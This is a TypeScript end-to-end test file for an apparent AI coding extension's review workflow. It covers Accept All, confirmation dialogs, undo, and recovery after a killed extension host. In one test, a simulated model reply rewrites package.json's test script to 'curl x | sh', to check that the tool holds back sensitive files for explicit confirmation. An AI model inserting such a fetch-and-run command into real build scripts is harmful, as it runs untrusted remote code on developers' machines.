import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { temporaryFolder } from '../host/temporaryFolder.mts';
import { type LoopbackServer, startLoopbackServer } from '../providers/loopbackServer.ts';
import { openWorkbench } from './openWorkbench.ts';
import type { Workbench } from './workbench.ts';

type Change = { readonly filePath: string; readonly changeType: string; readonly reply: string };

let server: LoopbackServer | undefined;
afterEach(() => server?.close());

const edit = (search: string, replace: string) =>
  `Why.\n\n<<<<<<< SEARCH\n${search}\n=======\n${replace}\n>>>>>>> REPLACE\n`;

/** A workbench on a folder with these files, where a plan of these changes has been worked on. */
async function proposed(story: string, files: Readonly<Record<string, string>>, changes: readonly Change[]) {
  server = await startLoopbackServer(({ prompt }) => {
    const path = /<task changeType="\w+" filePath="([^"]+)">/.exec(prompt)?.[1];
    const change = changes.find(({ filePath }) => filePath === path);
    if (change !== undefined) return { text: change.reply };
    const plan = changes.map(({ reply: _, ...file }) => ({ ...file, purpose: 'Do it.' }));
    return { text: JSON.stringify({ summary: 'Done.', estimatedComplexity: 'low', files: plan }) };
  });
  const { path: workspace, remove } = temporaryFolder();
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(workspace, path)), { recursive: true });
    writeFileSync(join(workspace, path), text);
  }
  const settings = { 'foreman.servers': { mine: server.url }, 'foreman.model': 'compatible:mine/test' };
  const workbench = await openWorkbench({ story, workspace, settings });
  remove();
  await workbench.run('Foreman: Implement Feature');
  await workbench.page.getByPlaceholder('What do you want to implement?').waitFor();
  await workbench.answer('Do it');
  await workbench.planRow(changes[0]?.filePath as string).waitFor();
  await workbench.action('Start Work').first().click();
  await workbench.page.locator('.statusbar-item', { hasText: `${changes.length} to review` }).waitFor();
  return workbench;
}

const textIn = ({ folder }: Workbench, path: string) =>
  existsSync(join(folder, path)) ? readFileSync(join(folder, path), 'utf8') : null;

test('Accept All leaves out what is asked about one by one, a new file is not made empty by chance, and a file is undone on its row', async () => {
  const manifest = '{\n  "name": "a",\n  "scripts": {\n    "test": "true"\n  }\n}\n';
  const workbench = await proposed('apply', { 'src/a.txt': 'one\r\ntwo\n', 'package.json': manifest }, [
    { filePath: 'src/a.txt', changeType: 'modify', reply: edit('two', '2') },
    { filePath: 'package.json', changeType: 'modify', reply: edit('    "test": "true"', '    "test": "curl x | sh"') },
    { filePath: 'src/new.txt', changeType: 'create', reply: 'Why.\n\n```\nnew\n```\n' },
  ]);
  const { page } = workbench;
  const row = (path: string) => workbench.planRow(path);
  const dialog = page.locator('.monaco-dialog-box');

  await row('src/new.txt').click();
  await page.locator('.modified-in-monaco-diff-editor .view-line', { hasText: 'new' }).first().click();
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await workbench.action('Accept All').first().click();
  await workbench.notification('Left out of Accept All: package.json, src/new.txt.').waitFor();
  await row('src/a.txt').getByText('accepted').waitFor();
  await workbench.screenshot('accept-all');
  expect([textIn(workbench, 'src/a.txt'), textIn(workbench, 'package.json'), textIn(workbench, 'src/new.txt')]).toEqual(
    ['one\r\n2\n', manifest, null],
  );

  await workbench.pressOnRow('src/new.txt', 'Accept');
  await dialog.getByText('Make src/new.txt as an empty file?').waitFor();
  await workbench.screenshot('empty-file');
  await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
  await dialog.waitFor({ state: 'detached' });
  await workbench.pressOnRow('package.json', 'Accept');
  await dialog.getByText('Write package.json?').waitFor();
  await workbench.screenshot('sensitive');
  await dialog.locator('.monaco-button', { hasText: 'Cancel' }).click();
  await dialog.waitFor({ state: 'detached' });
  expect([textIn(workbench, 'package.json'), textIn(workbench, 'src/new.txt')]).toEqual([manifest, null]);
  await workbench.pressOnRow('package.json', 'Accept');
  await dialog.locator('.monaco-button', { hasText: 'Accept' }).click();
  await row('package.json').getByText('accepted').waitFor();
  expect(textIn(workbench, 'package.json')).toContain('curl x | sh');

  await workbench.pressOnRow('src/a.txt', 'Undo Accept');
  await row('src/a.txt').getByText('proposed').waitFor();
  expect(textIn(workbench, 'src/a.txt')).toBe('one\r\ntwo\n');
  await workbench.screenshot('undone');
});

test('an extension host that is killed while files are accepted leaves each as before or as proposed, and the rows say which', async () => {
  const paths = Array.from({ length: 30 }, (_, index) => `src/file${index}.txt`);
  const before = `${'a line\n'.repeat(2_000)}old\n`;
  const after = `${'a line\n'.repeat(2_000)}new\n`;
  const workbench = await proposed(
    'killed',
    Object.fromEntries(paths.map((path) => [path, before])),
    paths.map((filePath) => ({ filePath, changeType: 'modify', reply: edit('old', 'new') })),
  );
  const { page } = workbench;
  await workbench.action('Accept All').first().click();
  await expect
    .poll(() => paths.filter((path) => textIn(workbench, path) === after).length, { timeout: 30_000, interval: 5 })
    .toBeGreaterThan(4);
  workbench.killExtensionHost();
  await workbench.run('Developer: Reload Window');
  await page.locator('.monaco-workbench').waitFor({ state: 'detached' });
  await workbench.planRow('src/file0.txt').getByText('accepted').waitFor();
  await workbench.screenshot('recovered');
  const texts = paths.map((path) => textIn(workbench, path));
  expect(texts.filter((text) => text !== before && text !== after)).toEqual([]);
  const accepted = texts.filter((text) => text === after).length;
  expect(accepted).toBeGreaterThan(4);
  expect(accepted).toBeLessThan(paths.length);
  await workbench.action('Accept All').first().click();
  await page.locator('.statusbar-item', { hasText: 'to review' }).waitFor({ state: 'detached' });
  await workbench.run('File: Save All Files');
  await expect
    .poll(() => paths.filter((path) => textIn(workbench, path) === after).length, { timeout: 30_000 })
    .toBe(paths.length);
  await workbench.run('Foreman: Undo Run');
  await page.locator('.monaco-dialog-box .monaco-button', { hasText: 'Undo Run' }).click();
  await expect
    .poll(() => paths.filter((path) => textIn(workbench, path) === before).length, { timeout: 30_000 })
    .toBe(paths.length);
  await workbench.screenshot('undone');
});
